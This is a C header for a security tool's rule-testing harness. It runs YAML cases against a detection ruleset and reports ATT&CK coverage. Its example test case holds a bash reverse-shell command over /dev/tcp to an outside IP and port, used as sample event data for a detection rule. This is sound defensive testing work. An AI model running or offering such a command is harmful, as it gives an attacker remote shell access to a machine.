/* ruletest: `rampart-hub --test DIR`, the rule tests.
 *
 * A rule test file is YAML:
 *
 *   cases:
 *     - name: bash reverse shell over /dev/tcp
 *       events:
 *         - data_type: 59          # required
 *           time: 1700000000       # seconds; default: the previous event's + 1
 *           agent: web-1           # default "agent-test"
 *           fields: {exe: /bin/bash, argv: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}
 *       expect: [reverse_shell_dev_tcp]   # the rule ids of every alert raised, any order
 *     - name: a script that only mentions /dev/tcp in a comment
 *       benign_for: [reverse_shell_dev_tcp]
 *       events: [...]
 *       expect: []
 *
 * Each case starts from an empty state (process table, windows). It passes when the alerts
 * raised (merged duplicates not counted again) are exactly `expect`. The report then lists,
 * for every rule of the ruleset, whether some case fires it and some `benign_for` case names
 * it, and which ATT&CK techniques the rules cover. */
#ifndef RAMPART_HUB_RULETEST_H
#define RAMPART_HUB_RULETEST_H

#include <stdbool.h>
#include <stdio.h>

#include "hub/ruleset.h"

typedef struct {
    size_t files, cases, passed, failed;
    size_t rules_without_fire, rules_without_benign;
} ruletest_result_t;

/* Runs every *.yaml file of dir against rs, printing one line per failed case, a summary
 * line "N passed, N failed" and the coverage report to out. require_coverage: a rule without
 * a firing case or a benign case counts as a failure. Returns 0 when everything passed,
 * 1 when something failed, -errno when dir cannot be read. */
int ruletest_run(ruleset_t *rs, const char *dir, bool require_coverage, FILE *out,
                 ruletest_result_t *res);

#endif
